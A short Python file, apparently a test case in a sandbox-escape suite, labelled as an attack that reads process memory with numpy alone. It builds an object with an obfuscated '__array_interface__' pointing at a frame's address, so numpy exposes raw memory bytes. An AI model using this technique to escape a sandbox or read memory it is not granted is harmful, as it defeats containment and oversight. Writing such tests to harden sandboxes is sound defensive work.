# attack: read and write any address of one's own process with numpy alone
# class: interpreter walk
# wall: separate_process

import numpy as np


def attack(frame, frame_index, config):
    fields = {"shape": (8,), "typestr": "|u1", "data": (id(frame), False), "version": 3}
    view = np.asarray(type("X", (), {"_" + "_array_interface_" + "_": fields})())
    return f"inside: {bytes(view).hex()}"
